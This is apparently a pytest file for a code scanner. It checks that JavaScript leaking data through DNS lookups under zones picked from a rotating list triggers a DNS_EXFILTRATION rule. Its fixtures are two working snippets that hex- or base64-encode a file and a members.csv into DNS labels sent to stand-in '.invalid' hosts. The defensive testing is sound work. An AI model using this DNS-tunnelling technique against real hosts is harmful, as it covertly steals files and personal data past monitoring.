"""A DNS name whose zone is picked from a list of constant names under one domain by an index known
only at run time (``VIEWS[i % VIEWS.length]``): whichever is picked, a label built from data in front of
it is looked up under that domain, as with one constant zone. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

SCRIPTS = {
    "hex chunks of a file, rotating over resolvers": (
        "const { Resolver } = require('dns').promises;\n"
        "const fs = require('fs');\n"
        "const POOL = ['r1', 'r2', 'r3'].map((n) => n + '.probe.pinecrest.invalid');\n"
        "const hex = fs.readFileSync(process.argv[2]).toString('hex');\n"
        "const r = new Resolver();\n"
        "(async () => {\n"
        "  for (let k = 0, n = 0; k < hex.length; k += 60, n++) {\n"
        "    await r.resolve4(hex.slice(k, k + 60) + '.' + POOL[n % POOL.length]).catch(() => null);\n"
        "  }\n"
        "})();\n"
    ),
    "base64 of rows, a literal list of zones": (
        "import dns from 'node:dns';\n"
        "import { readFileSync } from 'node:fs';\n"
        "const zones = ['a.sync.pinecrest.invalid', 'b.sync.pinecrest.invalid'];\n"
        "const rows = readFileSync('members.csv', 'utf8').split('\\n');\n"
        "rows.forEach((row, idx) => {\n"
        "  const label = Buffer.from(row).toString('base64url').slice(0, 60);\n"
        "  dns.lookup(`${label}.${zones[idx % zones.length]}`, () => {});\n"
        "});\n"
    ),
}


@pytest.mark.parametrize("script", sorted(SCRIPTS))
def test_data_under_a_zone_picked_from_a_list_is_tunnelled(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path, {"lib/warm.js": SCRIPTS[script]})
    assert any(rule == "DNS_EXFILTRATION" for rule, _, _ in errors), errors


def test_looking_up_the_listed_names_themselves_is_quiet(tmp_path: Path) -> None:
    script = (
        "const dns = require('dns').promises;\n"
        "const MIRRORS = ['eu.mirror.pinecrest.invalid', 'us.mirror.pinecrest.invalid'];\n"
        "(async () => {\n"
        "  for (let i = 0; i < 4; i++) {\n"
        "    const name = MIRRORS[i % MIRRORS.length];\n"
        "    console.log(name, await dns.resolve4(name).catch(() => []));\n"
        "  }\n"
        "})();\n"
    )
    assert not scan_errors(tmp_path, {"lib/mirrors.js": script})
